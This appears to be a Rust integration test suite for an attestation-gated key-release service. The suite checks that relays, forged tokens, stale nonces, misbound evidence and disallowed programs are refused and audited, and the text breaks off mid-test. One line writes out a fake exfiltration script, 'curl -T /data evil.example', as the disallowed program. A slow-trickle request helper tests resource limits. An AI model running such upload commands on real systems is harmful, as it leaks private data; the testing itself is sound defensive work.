//! The trust service end to end: a real service over TLS with its SQLite store, real
//! stakeholders signing requests, and a worker on an swtpm with the user-space IMA
//! measurer. The release rule is exercised in full, then each violation is mounted and
//! shown refused, with nothing released and an audit record written.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use perun_attest::policy::PlatformPolicy;
use perun_client::{Caller, Client, ClientError};
use perun_core::manifest::{APPROVAL_CONTEXT, MANIFEST_SCHEMA};
use perun_core::{sign_digest, AssetKind, AssetRef, Digest, JobManifest, JobMode, Name, Role};
use perun_proto::wire::*;
use perun_proto::ApiCode;
use perun_proto::JobState;
use perun_seal::wrap::WrapContext;
use perun_seal::{AssetKey, StakeholderKeys};
use perun_tpm::device::Tpm;
use perun_tpm::swtpm::{LocalCa, Swtpm};
use perun_tpm::tools::KeyAlg;
use perun_trust::audit::{verify_chain, AuditKind};
use perun_trust::server::Running;
use perun_trust::store::Store as _;
use perun_trust::{AnyStore, Trust};
use perun_worker::{Agent, Platform};

use crate::common::People;

fn name(s: &str) -> Name {
    Name::new(s).unwrap()
}

/// Each party's roles: hospitals own data, the model owner owns and receives the model,
/// infra runs the machines, mallory is a registered stakeholder of every role but the
/// provider's.
fn roles_of(n: &str) -> std::collections::BTreeSet<Role> {
    match n {
        "infra" => [Role::Provider].into(),
        "model-owner" => [Role::ModelOwner, Role::Receiver].into(),
        "mallory" => [Role::DataOwner, Role::ModelOwner, Role::Receiver].into(),
        _ => [Role::DataOwner].into(),
    }
}

fn now() -> u64 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs()
}

struct World {
    _dir: tempfile::TempDir,
    _tpm: Swtpm,
    clock: Arc<AtomicU64>,
    trust: Arc<Trust<AnyStore>>,
    _server: Running,
    anon: Client,
    people: People<Party>,
    asset_keys: Vec<(Name, AssetKey)>,
    policy: Digest,
    worker: Option<Agent>,
}

/// The suite's parties, by name.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Party {
    HospitalA,
    HospitalB,
    ModelOwner,
    Infra,
    Mallory,
}

impl World {
    fn new() -> Option<Self> {
        let tpm = Swtpm::start_or_skip()?;
        let crate::common::InProcess { dir, clock, trust, server, anon } = crate::common::InProcess::start(now());
        let info: ServiceInfo = anon.call::<(), _>("GET", "/v1/service", None).unwrap();
        assert_eq!(info.tls_fingerprint, trust.keys().tls_fingerprint());

        let parties = [
            (Party::HospitalA, "hospital-a"),
            (Party::HospitalB, "hospital-b"),
            (Party::ModelOwner, "model-owner"),
            (Party::Infra, "infra"),
            (Party::Mallory, "mallory"),
        ];
        let people = People(parties.iter().map(|(p, n)| (*p, StakeholderKeys::generate(name(n)))).collect());
        let mut w = World {
            _dir: dir,
            _tpm: tpm,
            clock,
            trust,
            _server: server,
            anon,
            people,
            asset_keys: Vec::new(),
            policy: Digest::of(b""),
            worker: None,
        };
        for p in w.people.iter() {
            let c = w.as_person(p);
            let body = RegisterStakeholder { identity: p.public(), roles: roles_of(p.name().as_str()) };
            let r: Registration = c.call("POST", "/v1/stakeholders", Some(&body)).unwrap();
            assert_eq!(r.status, RegistrationStatus::Pending, "registration waits for admission by default");
            w.trust.admit(p.name(), &p.public().fingerprint()).unwrap();
        }
        let recipient = perun_seal::keys::parse_recipient(&info.wrap_recipient).unwrap();
        for (owner, asset, kind) in [
            (Party::ModelOwner, "mlp", AssetKind::Model),
            (Party::HospitalA, "bc-a", AssetKind::Dataset),
            (Party::HospitalB, "bc-b", AssetKind::Dataset),
        ] {
            let key = AssetKey::generate();
            let body = RegisterAsset {
                terms: None,
                name: name(asset),
                kind,
                content_digest: Digest::of(asset.as_bytes()),
                location: format!("/data/{asset}.sealed"),
                wrapped_key: perun_seal::wrap::wrap(
                    key.to_secret_string().as_bytes(),
                    &recipient,
                    &WrapContext::asset_key(w.people[owner].name(), &name(asset), kind, &Digest::of(asset.as_bytes())),
                )
                .unwrap(),
                recipient: key.recipient().to_string(),
            };
            let _: AssetInfo = w.client(owner).call("POST", "/v1/assets", Some(&body)).unwrap();
            w.asset_keys.push((name(asset), key));
        }

        let t = Tpm::connect(&w._tpm.tcti(), KeyAlg::Rsa).unwrap();
        let mut platform = Platform::user_space(t).unwrap();
        platform.measure("/usr/lib/libtss2-esys.so.0", b"a library").unwrap();
        let policy: PlatformPolicy =
            platform.development_policy("swtpm dev worker", &LocalCa::for_process().unwrap()).unwrap();
        let added: PolicyInfo =
            w.client(Party::Infra).call_raw("POST", "/v1/policies", serde_json::to_vec(&policy).unwrap()).unwrap();
        w.policy = added.digest;
        let body = platform.enrolment(name("gpu-1")).unwrap();
        let _: WorkerInfo = w.client(Party::Infra).call("POST", "/v1/workers", Some(&body)).unwrap();
        w.worker = Some(Agent::enrol(&w.anon, name("gpu-1"), platform, KeyAlg::Rsa).unwrap());
        Some(w)
    }

    fn worker(&mut self) -> &mut Agent {
        self.worker.as_mut().unwrap()
    }

    fn as_person(&self, p: &StakeholderKeys) -> Client {
        self.anon.with_caller(Caller::Stakeholder { name: p.name().clone(), key: p.signing_key().clone() })
    }

    /// The provider enrols `tpm` as worker `worker` (EK and its certificate).
    fn enrol_by_infra(&self, worker: &str, tpm: &mut Tpm) {
        let body = EnrolWorker {
            name: name(worker),
            ek_public: tpm.ek_public().to_vec(),
            ek_certificate: tpm.ek_certificate().unwrap(),
            ek_chain: Vec::new(),
        };
        let _: WorkerInfo = self.client(Party::Infra).call("POST", "/v1/workers", Some(&body)).unwrap();
    }

    fn client(&self, who: Party) -> Client {
        self.as_person(&self.people[who])
    }

    fn manifest(&self, tag: &str) -> JobManifest {
        let asset = |a: &str, owner: &str, kind| AssetRef {
            asset: name(a),
            owner: name(owner),
            kind,
            content_digest: Digest::of(a.as_bytes()),
        };
        let t = self.clock.load(Ordering::SeqCst);
        JobManifest {
            schema: MANIFEST_SCHEMA,
            name: format!("bc-mlp {tag}"),
            mode: JobMode::Attested,
            model: asset("mlp", "model-owner", AssetKind::Model),
            data: vec![
                asset("bc-a", "hospital-a", AssetKind::Dataset),
                asset("bc-b", "hospital-b", AssetKind::Dataset),
            ],
            platform_policy: self.policy,
            provider: name("infra"),
            workers: Default::default(),
            hyperparameters: Default::default(),
            receivers: vec![name("model-owner")],
            purpose: Default::default(),
            approvers: Default::default(),
            privacy: None,
            attestation_interval_s: 5,
            created_at: t,
            expires_at: t + 3600,
        }
    }

    fn propose(&self, m: &JobManifest) -> JobInfo {
        self.client(Party::ModelOwner).call("POST", "/v1/jobs", Some(&ProposeJob { manifest: m.clone() })).unwrap()
    }

    fn approve(&self, who: Party, job: &Digest) -> Result<JobInfo, ClientError> {
        let sig = sign_digest(self.people[who].signing_key(), APPROVAL_CONTEXT, job);
        self.client(who).call("POST", &format!("/v1/jobs/{job}/approve"), Some(&ApproveJob { signature: sig }))
    }

    /// A proposed job approved by every owner.
    fn ready_job(&self, tag: &str) -> Digest {
        self.ready(&self.manifest(tag))
    }

    fn ready(&self, m: &JobManifest) -> Digest {
        let job = self.propose(m).id;
        for who in [Party::ModelOwner, Party::HospitalA, Party::HospitalB] {
            self.approve(who, &job).unwrap();
        }
        let info: JobInfo =
            self.client(Party::HospitalA).call::<(), _>("GET", &format!("/v1/jobs/{job}"), None).unwrap();
        assert_eq!(info.state, JobState::Ready);
        job
    }

    fn job(&self, job: &Digest) -> JobInfo {
        self.client(Party::HospitalA).call::<(), _>("GET", &format!("/v1/jobs/{job}"), None).unwrap()
    }

    /// The audit records `who` sees, as (kind, detail), after checking the chain.
    fn audit(&self, who: Party) -> Vec<(AuditKind, String)> {
        let log: AuditLog = self.client(who).call::<(), _>("GET", "/v1/audit", None).unwrap();
        let vk = self.trust.keys().signing.verifying_key();
        verify_chain(&log.records, &vk).unwrap();
        log.records.into_iter().filter_map(|v| v.body).map(|b| (b.kind, b.detail)).collect()
    }

    /// Asserts nothing was released for `job` and a refusal mentioning `needle` is audited.
    fn assert_refused_and_audited(&self, job: &Digest, needle: &str) {
        assert!(!self.job(job).released, "keys must not be released");
        let released = self.trust.store().read(|tx| {
            use perun_trust::store::TxExt as _;
            tx.list::<perun_trust::records::ReleaseRecord>(&format!("{job}/"))
        });
        assert!(released.unwrap().is_empty(), "no release record may exist");
        let refusals: Vec<_> = self
            .audit(Party::HospitalA)
            .into_iter()
            .filter(|(k, d)| matches!(k, AuditKind::Refused | AuditKind::AttestationRefused) && d.contains(needle))
            .collect();
        assert!(!refusals.is_empty(), "no audited refusal mentioning `{needle}`");
    }
}

/// The trust service's error inside a worker error.
fn tr<T>(r: Result<T, perun_worker::WorkerError>) -> Result<T, ClientError> {
    r.map_err(|e| match e {
        perun_worker::WorkerError::Trust(t) => t,
        other => panic!("expected the trust service to answer, got {other}"),
    })
}

fn refused_reason(r: Result<impl std::fmt::Debug, ClientError>) -> String {
    match r {
        Err(
            e @ (ClientError::Api { code: ApiCode::Refused, .. }
            | ClientError::Api { code: ApiCode::Revoked, .. }
            | ClientError::Api { code: ApiCode::Forbidden, .. }
            | ClientError::Api { code: ApiCode::Unauthenticated, .. }),
        ) => e.to_string(),
        other => panic!("expected a refusal, got {other:?}"),
    }
}

#[test]
fn an_approved_job_releases_every_key_to_the_attested_key_and_nothing_else() {
    let Some(mut w) = World::new() else { return };
    let job = w.ready_job("happy");
    assert_eq!(w.worker().offered().unwrap().len(), 1);
    let claimed = w.worker().claim(&job).unwrap();
    assert_eq!(claimed.assets.len(), 3);
    assert_eq!(claimed.receivers[0].0, name("model-owner"));

    let (eph, answer) = w.worker().attest(&job, &claimed.nonce).unwrap();
    assert_eq!(answer.keys.len(), 3);
    let opened = Agent::open_keys(&job, &eph, &answer).unwrap();
    for (asset, key) in &opened.keys {
        let registered = &w.asset_keys.iter().find(|(n, _)| n == asset).unwrap().1;
        assert_eq!(key.recipient().to_string(), registered.recipient().to_string(), "{asset}");
    }
    // The released keys open with that ephemeral key only.
    let other = perun_seal::release::EphemeralKey::generate();
    assert!(Agent::open_keys(&job, &other, &answer).is_err());

    // Continuous attestation: incremental, and releases nothing more.
    w.worker().platform().measure("/usr/lib/libtss2-esys.so.0", b"a library").unwrap();
    let nonce = w.worker().nonce(&job).unwrap();
    let (_, again) = w.worker().attest(&job, &nonce).unwrap();
    assert!(again.keys.is_empty());
    assert_eq!(again.new_entries, 1);

    // Metrics and outputs; everyone of the job sees them.
    let mut values = serde_json::Map::new();
    values.insert("loss".into(), serde_json::json!(0.25));
    let _: () = w
        .worker()
        .client()
        .call("POST", &format!("/v1/jobs/{job}/metrics"), Some(&ReportMetrics { epoch: 1, values }))
        .unwrap();
    let m: JobMetrics =
        w.client(Party::HospitalB).call::<(), _>("GET", &format!("/v1/jobs/{job}/metrics"), None).unwrap();
    assert_eq!(m.epochs.len(), 1);
    let out = perun_proto::OutputInfo {
        name: "model".into(),
        sealed_digest: Digest::of(b"sealed model"),
        location: "/out/model.sealed".into(),
        wrapped_key: None,
    };
    let body =
        FinishJob { outputs: vec![out], model_digest: Some(Digest::of(b"weights")), privacy: None, attestation: None };
    // The provider holds the worker's token (root reads its memory): with the token
    // alone, outputs of its own are refused, and the job still runs.
    let forged: Result<(), _> = w.worker().client().call("POST", &format!("/v1/jobs/{job}/finish"), Some(&body));
    assert!(
        matches!(&forged, Err(ClientError::Api { code: ApiCode::BadRequest, message: m, .. }) if m.contains("last attestation")),
        "{forged:?}"
    );
    assert_eq!(w.job(&job).state, JobState::Running);
    // The attested worker's finish, its claims under a fresh quote: accepted.
    w.worker().finish(&job, body.clone()).unwrap();
    assert_eq!(w.job(&job).state, JobState::Finished);
    assert_eq!(w.job(&job).outputs[0].sealed_digest, Digest::of(b"sealed model"));

    // A finished job releases nothing: its nonces are refused.
    assert!(w.worker().nonce(&job).is_err());

    // The audit chain verifies for each party, and each sees its own records only.
    let a = w.audit(Party::HospitalA);
    assert_eq!(a.iter().filter(|(k, _)| *k == AuditKind::KeyReleased).count(), 3);
    assert!(a.iter().any(|(k, _)| *k == AuditKind::JobFinished));
    let mallory = w.audit(Party::Mallory);
    assert!(mallory.iter().all(|(k, _)| *k == AuditKind::StakeholderRegistered), "{mallory:?}");
    let metrics = w.anon.call::<(), serde_json::Value>("GET", "/v1/health", None).unwrap();
    assert_eq!(metrics["status"], "ok");
    // A real quote over the worker's claims, sent with other claims (the provider's
    // model): refused, the job revoked, nothing delivered.
    let job = w.ready_job("swapped");
    let claimed = w.worker().claim(&job).unwrap();
    w.worker().attest(&job, &claimed.nonce).unwrap();
    let nonce = w.worker().nonce(&job).unwrap();
    let binding = body.binding(&w.anon.audience(), &nonce, &job);
    let evidence = w.worker().platform().evidence(binding.as_bytes()).unwrap();
    let swapped = FinishJob {
        model_digest: Some(Digest::of(b"the provider's model")),
        attestation: Some(perun_proto::wire::Attest {
            nonce,
            ephemeral_key: perun_proto::EphemeralPublicKey::from(*body.claims_digest().as_bytes()),
            evidence,
        }),
        ..body.clone()
    };
    let r: Result<(), _> = w.worker().client().call("POST", &format!("/v1/jobs/{job}/finish"), Some(&swapped));
    assert!(matches!(&r, Err(ClientError::Api { code: ApiCode::Refused, .. })), "{r:?}");
    let info = w.job(&job);
    assert_eq!(info.state, JobState::Revoked);
    assert!(info.outputs.is_empty() && !info.has_receipt);
    // The provider drives the genuine worker binary through a service of its own: the
    // worker refuses a claim whose manifest is not the job's, or whose assets are not
    // the manifest's.
    let job = w.ready_job("re-keyed");
    let claimed = w.worker().claim(&job).unwrap();
    perun_client::claim::check_claim(&claimed).unwrap();
    let mut other = claimed.clone();
    other.assets[0].content_digest = Digest::of(b"the provider's model");
    assert!(perun_client::claim::check_claim(&other).is_err());
    let mut other = claimed.clone();
    other.job.id = Digest::of(b"another job");
    assert!(perun_client::claim::check_claim(&other).is_err());
    // ...or whose receivers are not the ones the owners signed for.
    let mut other = claimed.clone();
    other.receivers.push((name("infra"), claimed.receivers[0].1.clone()));
    let e = perun_client::claim::check_claim(&other).unwrap_err().to_string();
    assert!(e.contains("receivers"), "{e}");
    let mut other = claimed.clone();
    other.receivers[0].0 = name("infra");
    assert!(perun_client::claim::check_claim(&other).is_err());
    // Root proves a new AK of the same TPM (and so gets a token) while the job runs: the
    // job ends, and the token it got delivers nothing.
    w.worker().attest(&job, &claimed.nonce).unwrap();
    let raced = w.ready_job("raced");
    let before: perun_trust::records::WorkerRecord = w
        .trust
        .store()
        .read(|tx| {
            use perun_trust::store::TxExt as _;
            tx.get("gpu-1")
        })
        .unwrap()
        .unwrap();
    let ek = w.worker().platform().tpm().ek_public().to_vec();
    let ak = w.worker().platform().tpm().create_ak(KeyAlg::Rsa).unwrap();
    let anon = w.anon.with_caller(perun_client::Caller::Anonymous);
    let platform = w.worker().platform();
    let session = perun_worker::Session::activate(&anon, name("gpu-1"), ek, ak.public, |blob, secret| {
        Ok(platform.tpm().activate_credential(blob, secret)?)
    })
    .unwrap();
    let info = w.job(&job);
    assert_eq!(info.state, JobState::Revoked, "{info:?}");
    assert!(info.reason.unwrap().contains("new AK"));
    let r: Result<(), _> = session.client().call("POST", &format!("/v1/jobs/{job}/finish"), Some(&body));
    assert!(matches!(&r, Err(ClientError::Api { code: ApiCode::Revoked, .. })), "{r:?}");
    // A claim authenticated with the old token just before the new AK was activated,
    // decided after it: refused, the job still ready.
    let r = w.trust.claim(&before, &raced);
    assert!(matches!(&r, Err(perun_trust::TrustError::Unauthenticated(m)) if m.contains("changed")), "{r:?}");
    assert_eq!(w.job(&raced).state, JobState::Ready);
}

#[test]
fn a_relay_between_the_worker_and_the_service_gets_nothing() {
    let Some(mut w) = World::new() else { return };
    let job = w.ready_job("relayed");
    // The provider points its genuine, measured worker at a relay of its own, which
    // terminates the worker's TLS under the relay's certificate (the one the worker's
    // provider-written configuration pins) and opens its own TLS to the service. It
    // passes everything on, so it could rewrite the receivers' keys the claim carries.
    let relay = crate::common::relay::Relay::start(w.anon.base(), w.anon.audience());
    let via = Client::new(&relay.url, relay.fingerprint, Caller::Anonymous).unwrap();
    w.worker().reconnect(&via);
    let claimed = w.worker().claim(&job).unwrap();
    assert_eq!(claimed.job.id, job);
    // The worker's quote binds the certificate it spoke to, the service binds its own:
    // refused, the job revoked, no key released.
    let r = w.worker().attest(&job, &claimed.nonce);
    let why = refused_reason(tr(r.map(|_| ())));
    assert!(why.contains("qualifying data"), "{why}");
    let info = w.job(&job);
    assert_eq!(info.state, JobState::Revoked);
    assert!(!info.released, "{info:?}");
    w.assert_refused_and_audited(&job, "qualifying data");
    // Pointed at the service itself, the same worker's next job runs.
    let direct = w.anon.with_caller(Caller::Anonymous);
    w.worker().reconnect(&direct);
    let job = w.ready_job("direct");
    let claimed = w.worker().claim(&job).unwrap();
    let (_, ok) = w.worker().attest(&job, &claimed.nonce).unwrap();
    assert_eq!(ok.keys.len(), 3);
}

/// Sends `POST /v1/jobs/{job}/attest` as gpu-1 with `token`, announcing a 100 kB body of
/// which it sends one byte every 50 ms, until the service answers (or 20 s pass).
/// Returns the answer's status and text, and how long it took.
fn trickle_evidence(base: &str, service: Digest, job: &Digest, token: &[u8]) -> (u16, String, std::time::Duration) {
    use std::io::{Read as _, Write as _};
    let tcp = std::net::TcpStream::connect(base.trim_start_matches("https://")).unwrap();
    tcp.set_read_timeout(Some(std::time::Duration::from_millis(20))).unwrap();
    let server = rustls::pki_types::ServerName::try_from("localhost").unwrap();
    let conn =
        rustls::ClientConnection::new(Arc::new(perun_client::pinned_tls_config(service).unwrap()), server).unwrap();
    let mut tls = rustls::StreamOwned::new(conn, tcp);
    let head = format!(
        "POST /v1/jobs/{job}/attest HTTP/1.1\r\nhost: localhost\r\nperun-worker: gpu-1\r\n\
         authorization: Bearer {}\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\
         connection: close\r\n\r\n",
        hex::encode(token)
    );
    let t = std::time::Instant::now();
    tls.write_all(head.as_bytes()).unwrap();
    let mut got = Vec::new();
    while t.elapsed() < std::time::Duration::from_secs(20) {
        let _ = tls.write_all(b" ");
        let mut buf = [0u8; 4096];
        match tls.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => got.extend_from_slice(&buf[..n]),
            Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut) => {}
            Err(_) => break,
        }
        std::thread::sleep(std::time::Duration::from_millis(30));
    }
    let took = t.elapsed();
    let text = String::from_utf8_lossy(&got).into_owned();
    let status = text.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    (status, text, took)
}

#[test]
fn a_workers_token_cannot_hold_the_evidence_slots() {
    let Some(mut w) = World::new() else { return };
    let running = w.ready_job("running");
    w.worker().claim(&running).unwrap();
    let ready = w.ready_job("ready");
    // The provider holds gpu-1's token (root reads the worker's memory): here, one it
    // knows, set in the store.
    let token = [7u8; 32];
    w.trust
        .store()
        .write(|tx| {
            use perun_trust::store::TxExt as _;
            let mut rec: perun_trust::records::WorkerRecord = tx.get("gpu-1")?.unwrap();
            rec.token_hash = Some(Digest::of(&token));
            tx.put(&rec)
        })
        .unwrap();
    let base = w.anon.base().to_owned();
    let service = w.anon.audience();
    // For a job not running on it, a body that never ends is refused before it is read.
    let (status, text, took) = trickle_evidence(&base, service, &ready, &token);
    assert_eq!(status, 403, "{text}");
    assert!(text.contains("not claimed by gpu-1"), "{text}");
    assert!(took < std::time::Duration::from_secs(4), "{took:?}");
    // For its running job: one body in flight at a time...
    let slow = {
        let base = base.clone();
        std::thread::spawn(move || trickle_evidence(&base, service, &running, &token))
    };
    std::thread::sleep(std::time::Duration::from_secs(1));
    let http = reqwest::blocking::Client::builder()
        .use_preconfigured_tls(perun_client::pinned_tls_config(service).unwrap())
        .timeout(std::time::Duration::from_secs(30))
        .build()
        .unwrap();
    let send = |body: &'static str| {
        let r = http
            .post(format!("{base}/v1/jobs/{running}/attest"))
            .header("perun-worker", "gpu-1")
            .header("authorization", format!("Bearer {}", hex::encode(token)))
            .body(body)
            .send()
            .unwrap();
        (r.status().as_u16(), r.text().unwrap())
    };
    let (status, text) = send("{}");
    assert_eq!(status, 429, "{text}");
    assert!(text.contains("one body at a time"), "{text}");
    // ...and one that trickles is cut off after its grace time, which frees its slot.
    let (status, text, took) = slow.join().unwrap();
    assert_eq!(status, 408, "{text}");
    assert!(text.contains("slower than"), "{text}");
    assert!(took < std::time::Duration::from_secs(15), "{took:?}");
    let (status, text) = send("not evidence");
    assert_eq!(status, 400, "{text}");
    assert_eq!(w.job(&running).state, JobState::Running);
}

#[test]
fn approval_violations_are_refused_with_nothing_released() {
    let Some(mut w) = World::new() else { return };

    // Missing approval: hospital B has not signed.
    let m = w.manifest("missing");
    let job = w.propose(&m).id;
    w.approve(Party::ModelOwner, &job).unwrap();
    w.approve(Party::HospitalA, &job).unwrap();
    assert_eq!(w.job(&job).missing, vec![name("hospital-b")]);
    assert!(w.worker().offered().unwrap().is_empty());
    let why = refused_reason(tr(w.worker().claim(&job)));
    assert!(why.contains("not approved") || why.contains("hospital-b"), "{why}");
    w.assert_refused_and_audited(&job, "job");

    // Manifest edited after approval: the owners' signatures do not cover the new one.
    let mut edited = m.clone();
    edited.receivers.push(name("mallory"));
    let edited_id = w.propose(&edited).id;
    assert_ne!(edited_id, job);
    for who in [Party::ModelOwner, Party::HospitalA] {
        let sig = sign_digest(w.people[who].signing_key(), APPROVAL_CONTEXT, &job);
        let r: Result<JobInfo, _> =
            w.client(who).call("POST", &format!("/v1/jobs/{edited_id}/approve"), Some(&ApproveJob { signature: sig }));
        assert!(refused_reason(r).contains("does not cover"));
    }
    assert_eq!(w.job(&edited_id).state, JobState::Proposed);
    w.assert_refused_and_audited(&edited_id, "does not cover");

    // An approval by a party that owns nothing in the job (its provider): refused and
    // audited; by a stakeholder of no part in it: the job does not exist for it.
    let r = w.approve(Party::Infra, &job);
    assert!(refused_reason(r).contains("owns no asset"));
    let seen = w.audit(Party::Infra);
    assert!(seen.iter().any(|(k, d)| *k == AuditKind::Refused && d.contains("owns no asset")));
    let r = w.approve(Party::Mallory, &job);
    assert!(matches!(r, Err(ClientError::Api { code: ApiCode::NotFound, .. })), "{r:?}");
    assert!(!w.audit(Party::Mallory).iter().any(|(_, d)| d.contains("owns no asset")));
    assert!(!w.job(&job).released);
}

#[test]
fn unenrolled_workers_unproven_aks_and_foreign_tpms_get_nothing() {
    let Some(mut w) = World::new() else { return };
    let job = w.ready_job("identity");

    // A worker that was never enrolled cannot even present an AK.
    let tpm2 = Swtpm::start().unwrap();
    let mut t2 = Tpm::connect(&tpm2.tcti(), KeyAlg::Rsa).unwrap();
    let ak2 = t2.create_ak(KeyAlg::Rsa).unwrap();
    let r: Result<CredentialChallenge, _> = w.anon.call(
        "POST",
        "/v1/workers/rogue/ak",
        Some(&PresentAk { ek_public: t2.ek_public().to_vec(), ak_public: ak2.public.clone() }),
    );
    assert!(refused_reason(r).contains("not enrolled"));

    // Another TPM claiming to be gpu-1: its EK is not the enrolled one.
    let r: Result<CredentialChallenge, _> = w.anon.call(
        "POST",
        "/v1/workers/gpu-1/ak",
        Some(&PresentAk { ek_public: t2.ek_public().to_vec(), ak_public: ak2.public.clone() }),
    );
    assert!(refused_reason(r).contains("EK other than the enrolled"));

    // A worker enrolled but whose AK was never activated has no token: refused.
    w.enrol_by_infra("gpu-2", &mut t2);
    let ch2: CredentialChallenge = w
        .anon
        .call(
            "POST",
            "/v1/workers/gpu-2/ak",
            Some(&PresentAk { ek_public: t2.ek_public().to_vec(), ak_public: ak2.public.clone() }),
        )
        .unwrap();
    let guessed =
        w.anon.with_caller(Caller::Worker { name: name("gpu-2"), token: zeroize::Zeroizing::new(vec![0; 32]) });
    let r: Result<Claimed, _> = guessed.call::<(), _>("POST", &format!("/v1/jobs/{job}/claim"), None);
    assert!(refused_reason(r).contains("no activated AK"));
    // A wrong answer to the credential challenge does not activate it.
    let wrong = ActivateAk { credential: vec![7; 32], ak_public: ak2.public.clone(), issued_at: ch2.issued_at };
    let r: Result<(), _> = w.anon.call("POST", "/v1/workers/gpu-2/activate", Some(&wrong));
    assert!(refused_reason(r).contains("did not recover"));

    // gpu-1 quotes with a new AK that was never activated: the quote does not verify
    // against its activated AK; the job is revoked and nothing released.
    let claimed = w.worker().claim(&job).unwrap();
    w.worker().platform().tpm().create_ak(KeyAlg::Rsa).unwrap();
    let r = w.worker().attest(&job, &claimed.nonce);
    let why = refused_reason(tr(r.map(|_| ())));
    assert!(why.contains("attestation refused"), "{why}");
    assert_eq!(w.job(&job).state, JobState::Revoked);
    w.assert_refused_and_audited(&job, "signature");
    let audit = w.audit(Party::Infra);
    assert!(audit.iter().any(|(k, d)| *k == AuditKind::Refused && d.contains("did not recover")), "{audit:?}");
}

#[test]
fn stale_reused_or_misbound_evidence_and_policy_violations_release_nothing() {
    let Some(mut w) = World::new() else { return };

    // A nonce the service never issued, then a reused one (the job attests every 100 s,
    // so a nonce can go stale before the attestation is missed).
    let mut m = w.manifest("nonce");
    m.attestation_interval_s = 100;
    let job = w.ready(&m);
    let claimed = w.worker().claim(&job).unwrap();
    let r = w.worker().attest(&job, &perun_proto::Nonce::from([9u8; 32]));
    assert!(refused_reason(tr(r.map(|_| ()))).contains("nonce"));
    let (_, ok) = w.worker().attest(&job, &claimed.nonce).unwrap();
    assert_eq!(ok.keys.len(), 3);
    let r = w.worker().attest(&job, &claimed.nonce);
    assert!(refused_reason(tr(r.map(|_| ()))).contains("already used"));
    // The same nonce in upper case is the same nonce.
    let eph = perun_seal::release::EphemeralKey::generate().public_key();
    let service = w.anon.audience();
    let binding = Digest::evidence_binding(&service, claimed.nonce.as_bytes(), &job, eph.as_bytes());
    let evidence = w.worker().platform().evidence(binding.as_bytes()).unwrap();
    let mut req = serde_json::to_value(Attest { nonce: claimed.nonce.clone(), ephemeral_key: eph, evidence }).unwrap();
    req["nonce"] = claimed.nonce.to_string().to_ascii_uppercase().into();
    let r: Result<Attested, _> = w.worker().client().call("POST", &format!("/v1/jobs/{job}/attest"), Some(&req));
    assert!(refused_reason(r).contains("already used"));
    // A nonce that went stale.
    let nonce = w.worker().nonce(&job).unwrap();
    w.clock.fetch_add(61, Ordering::SeqCst);
    let r = w.worker().attest(&job, &nonce);
    assert!(refused_reason(tr(r.map(|_| ()))).contains("stale"));
    w.clock.fetch_sub(61, Ordering::SeqCst);

    // Evidence bound to another ephemeral key than the one sent.
    let job = w.ready_job("ephemeral");
    let claimed = w.worker().claim(&job).unwrap();
    let real = perun_seal::release::EphemeralKey::generate();
    let binding = Digest::evidence_binding(&service, claimed.nonce.as_bytes(), &job, real.public_key().as_bytes());
    let evidence = w.worker().platform().evidence(binding.as_bytes()).unwrap();
    let swapped = perun_seal::release::EphemeralKey::generate();
    let req = Attest { nonce: claimed.nonce.clone(), ephemeral_key: swapped.public_key(), evidence };
    let r: Result<Attested, _> = w.worker().client().call("POST", &format!("/v1/jobs/{job}/attest"), Some(&req));
    assert!(refused_reason(r).contains("qualifying data"));
    assert_eq!(w.job(&job).state, JobState::Revoked);
    w.assert_refused_and_audited(&job, "qualifying data");

    // A low-order point as the ephemeral key (no key can be sealed to it): refused as a
    // bad request before anything is decided, spent or sealed; the job runs on.
    let job = w.ready_job("low-order");
    let claimed = w.worker().claim(&job).unwrap();
    let zero = perun_proto::EphemeralPublicKey::from([0u8; 32]);
    let binding = Digest::evidence_binding(&service, claimed.nonce.as_bytes(), &job, zero.as_bytes());
    let evidence = w.worker().platform().evidence(binding.as_bytes()).unwrap();
    let req = Attest { nonce: claimed.nonce.clone(), ephemeral_key: zero, evidence };
    let r: Result<Attested, _> = w.worker().client().call("POST", &format!("/v1/jobs/{job}/attest"), Some(&req));
    assert!(
        matches!(&r, Err(ClientError::Api { code: ApiCode::BadRequest, message, .. }) if message.contains("low-order")),
        "{r:?}"
    );
    assert_eq!((w.job(&job).state, releases(&w, &job)), (JobState::Running, 0));
    let (_, ok) = w.worker().attest(&job, &claimed.nonce).unwrap();
    assert_eq!(ok.keys.len(), 3, "the nonce was not spent by the refused request");

    // Evidence bound to another job.
    let job = w.ready_job("other-job");
    let claimed = w.worker().claim(&job).unwrap();
    let eph = perun_seal::release::EphemeralKey::generate();
    let binding = Digest::evidence_binding(
        &service,
        claimed.nonce.as_bytes(),
        &Digest::of(b"another job"),
        eph.public_key().as_bytes(),
    );
    let evidence = w.worker().platform().evidence(binding.as_bytes()).unwrap();
    let req = Attest { nonce: claimed.nonce.clone(), ephemeral_key: eph.public_key(), evidence };
    let r: Result<Attested, _> = w.worker().client().call("POST", &format!("/v1/jobs/{job}/attest"), Some(&req));
    assert!(refused_reason(r).contains("qualifying data"));
    w.assert_refused_and_audited(&job, "qualifying data");

    // A program the policy does not allow runs on the worker: refused, naming it.
    let job = w.ready_job("policy");
    let claimed = w.worker().claim(&job).unwrap();
    w.worker().platform().measure("/tmp/exfiltrate", b"#!/bin/sh\ncurl -T /data evil.example").unwrap();
    let r = w.worker().attest(&job, &claimed.nonce);
    let why = refused_reason(tr(r.map(|_| ())));
    assert!(why.contains("/tmp/exfiltrate"), "{why}");
    assert_eq!(w.job(&job).state, JobState::Revoked);
    w.assert_refused_and_audited(&job, "/tmp/exfiltrate");
    // The same refused evidence bound to a low-order key: still refused as evidence and
    // the job revoked (a bad key does not turn a refusal into a bad request).
    let job = w.ready_job("policy-low-order");
    let claimed = w.worker().claim(&job).unwrap();
    let zero = perun_proto::EphemeralPublicKey::from([0u8; 32]);
    let binding = Digest::evidence_binding(&w.anon.audience(), claimed.nonce.as_bytes(), &job, zero.as_bytes());
    let evidence = w.worker().platform().evidence(binding.as_bytes()).unwrap();
    let req = Attest { nonce: claimed.nonce.clone(), ephemeral_key: zero, evidence };
    let r: Result<Attested, _> = w.worker().client().call("POST", &format!("/v1/jobs/{job}/attest"), Some(&req));
